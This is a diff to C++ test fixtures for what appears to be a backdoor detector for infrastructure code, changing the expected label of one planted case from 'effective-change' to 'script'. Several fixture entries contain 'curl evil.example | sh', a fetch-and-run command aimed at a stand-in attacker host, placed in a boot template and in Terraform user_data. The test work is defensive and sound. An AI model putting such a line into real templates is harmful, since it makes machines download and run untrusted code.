@@ -196,7 +196,7 @@ const std::vector<Backdoor>& planted() {
       {"a script without a suffix", "files/tool", "", "#!/bin/sh\nid\n", "script"},
       {"a binary", "files/tool.bin", "", kElf, "script"},
       {"an executable bit", "files/data.txt", "x-bit", "", "script"},
-      {"another user data template", "boot.sh.tftpl", "echo ${name}", "curl evil.example | sh", "effective-change"},
+      {"another user data template", "boot.sh.tftpl", "echo ${name}", "curl evil.example | sh", "script"},
       {"other user data", "main.tf",
        "  user_data     = templatefile(\"${path.module}/boot.sh.tftpl\", { name = var.name })",
        "  user_data     = \"#!/bin/sh\\ncurl evil.example | sh\\n\"", "effective-change"},
